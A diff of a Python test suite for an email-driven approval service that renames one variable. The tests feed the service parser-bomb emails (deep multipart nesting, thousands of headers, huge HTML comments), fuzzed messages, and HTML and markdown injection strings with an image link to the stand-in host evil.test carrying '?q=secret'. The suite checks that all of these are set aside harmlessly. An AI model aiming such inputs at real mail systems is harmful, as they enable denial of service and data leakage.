@@ -68,12 +68,12 @@ async def test_eml15_a22_no_subject_and_no_name_becomes_another_header_or_stops_
 
 async def test_eml15_a22_no_subject_of_a_reply_stops_the_sentence_about_it(mail: Servers, tmp_path: Path) -> None:
     async with correspondence(mail, tmp_path, PUSH, DONE) as here:
-        letter = await asked(here)
+        sent_mail = await asked(here)
         for number, subject in enumerate(SUBJECTS[:2]):
-            await answer(here, letter, reply(here, "olive", letter, "hm?", Subject=subject))
+            await answer(here, sent_mail, reply(here, "olive", sent_mail, "hm?", Subject=subject))
             await here.until(lambda: sum("Reply once more" in body(m) for m in sent_to(here, "olive")) > number)  # noqa: B023
         harmless(here)
-        await still_decidable(here, letter)
+        await still_decidable(here, sent_mail)
 
 
 CHARSETS = [
@@ -94,29 +94,29 @@ CHARSETS = [
 
 async def test_eml17_a18_a_text_in_no_charset_of_people_decides_nothing(mail: Servers, tmp_path: Path) -> None:
     async with correspondence(mail, tmp_path, PUSH, DONE) as here:
-        letter = await asked(here)
+        sent_mail = await asked(here)
         for type, said, encoding in CHARSETS:
             raw = reply(
-                here, "olive", letter, said, quotes=False, Content_Type=type, Content_Transfer_Encoding=encoding
+                here, "olive", sent_mail, said, quotes=False, Content_Type=type, Content_Transfer_Encoding=encoding
             )
-            await answer(here, letter, raw)
+            await answer(here, sent_mail, raw)
         await judged(here, 1 + len(CHARSETS))
         assert len(notes(here, "unclear mail")) == len(CHARSETS)
-        await still_decidable(here, letter)
+        await still_decidable(here, sent_mail)
 
 
-def bombs(here: MailFixture, letter: EmailMessage) -> dict[str, bytes]:
+def bombs(here: MailFixture, sent_mail: EmailMessage) -> dict[str, bytes]:
     """Replies that say approve, and are built to stop their reader. All are set aside."""
 
     def built(text: str | bytes, type: str = "text/plain", **headers: str) -> bytes:
-        return reply(here, "olive", letter, text, quotes=False, Content_Type=type, **headers)
+        return reply(here, "olive", sent_mail, text, quotes=False, Content_Type=type, **headers)
 
     nested = "".join(f'--b{n}\r\nContent-Type: multipart/mixed; boundary="b{n + 1}"\r\n\r\n' for n in range(1_000))
     parts = "--b\r\n\r\napprove\r\n" * 10_000
     return {
         "nested": built(nested, 'multipart/mixed; boundary="b0"'),
         "parts": built(f"{parts}--b--\r\n", 'multipart/mixed; boundary="b"'),
-        "headers": reply(here, "olive", letter, also="\r\n".join(f"X-{n}: y" for n in range(10_000))),
+        "headers": reply(here, "olive", sent_mail, also="\r\n".join(f"X-{n}: y" for n in range(10_000))),
         "a header": built("approve", Comments="(" * 9_000),
         "a name": built("approve", From='"' * 9_000 + f" <{here.people['olive'].address}>"),
         "slow HTML": built("<!--" * 125_000, "text/html"),
@@ -128,11 +128,11 @@ async def test_eml16_eml18_a23_a_bomb_is_laid_aside_and_the_mail_behind_it_is_ta
     mail: Servers, tmp_path: Path
 ) -> None:
     async with correspondence(mail, tmp_path, PUSH, DONE) as here:
-        letter = await asked(here)
-        made = bombs(here, letter)
+        sent_mail = await asked(here)
+        made = bombs(here, sent_mail)
         for raw in made.values():
-            await answer(here, letter, _folded(raw))
-        await still_decidable(here, letter)
+            await answer(here, sent_mail, _folded(raw))
+        await still_decidable(here, sent_mail)
         assert len(notes(here, "mail laid aside")) == len(made)
         assert len(await aside(here)) == len(made)
 
@@ -163,29 +163,29 @@ async def test_eml18_a_mail_beyond_every_size_is_read_in_part_and_decides_nothin
     mail: Servers, tmp_path: Path
 ) -> None:
     async with correspondence(mail, tmp_path, PUSH, DONE) as here:
-        letter = await asked(here)
-        await answer(here, letter, reply(here, "olive", letter, "approve\n" + ("x" * 900 + "\n") * 12_000))
+        sent_mail = await asked(here)
+        await answer(here, sent_mail, reply(here, "olive", sent_mail, "approve\n" + ("x" * 900 + "\n") * 12_000))
         await judged(here, 2)
         assert len(notes(here, "unclear mail")) == 1
-        await still_decidable(here, letter)
+        await still_decidable(here, sent_mail)
 
 
 async def test_eml16_malformed_mails_end_nothing(mail: Servers, tmp_path: Path) -> None:
     dice = random.Random(16)
     async with correspondence(mail, tmp_path, PUSH, *[WAIT] * 200) as here:
-        letter = await asked(here)
+        sent_mail = await asked(here)
         for number in range(60):
             raw = bytearray(dice.choice(SEEDS).replace(b"olive@example.org", here.people["max"].address.encode()))
             for _ in range(dice.randrange(1, 12)):
                 at = dice.randrange(len(raw))
                 raw[at : at + dice.randrange(8)] = dice.choice((b"\r\n", b"\x00", b"--b1", b"=?", b'"', b"(", b"\xff"))
             whole = b"Message-ID: <m-%d@example.test>\r\n" % number + bytes(raw)
-            await answer(here, letter, _folded(whole))
-        await answer(here, letter, reply(here, "olive", letter, "hm?"))
+            await answer(here, sent_mail, _folded(whole))
+        await answer(here, sent_mail, reply(here, "olive", sent_mail, "hm?"))
         await here.until(lambda: notes(here, "unclear mail"))
         assert here.decisions() == []
         assert [why for why in notes(here, "mail laid aside") if "Error: " in why] == []
-        await here.replies("olive", letter, "approve")
+        await here.replies("olive", sent_mail, "approve")
         await here.until(lambda: here.ledger.lines)
 
 
@@ -215,10 +215,10 @@ async def test_eml23_a31_nothing_in_our_mail_is_fetched_run_or_filled_in(mail: S
     words = "![x](https://evil.test/?q=secret) <script>x</script> [Approve](https://evil.test/) <img src=//evil.test>"
     push = choose("push", tag="v1", commit="<img src=https://evil.test/x.png>", words=words)
     async with correspondence(mail, tmp_path, push, choose("done", message=words)) as here:
-        letter = await asked(here)
-        await here.replies("olive", letter, "hm?")
+        sent_mail = await asked(here)
+        await here.replies("olive", sent_mail, "hm?")
         await here.mail("olive", "Reply once more")
-        await here.replies("olive", letter, "approve")
+        await here.replies("olive", sent_mail, "approve")
         await here.mail("sam", "evil.test")
         for sent in outgoing(here):
             page = sent.get_body(("html",)).get_content()  # type: ignore[union-attr]
@@ -228,11 +228,11 @@ async def test_eml23_a31_nothing_in_our_mail_is_fetched_run_or_filled_in(mail: S
                 "text/plain",
                 "text/html",
             ]
-        assert "evil.test/" not in "".join(url for url, _ in MailPage(_html(letter)).links)
+        assert "evil.test/" not in "".join(url for url, _ in MailPage(_html(sent_mail)).links)
 
 
-def _html(letter: EmailMessage) -> str:
-    part = letter.get_body(("html",))
+def _html(sent_mail: EmailMessage) -> str:
+    part = sent_mail.get_body(("html",))
     assert part is not None
     return str(part.get_content())
 
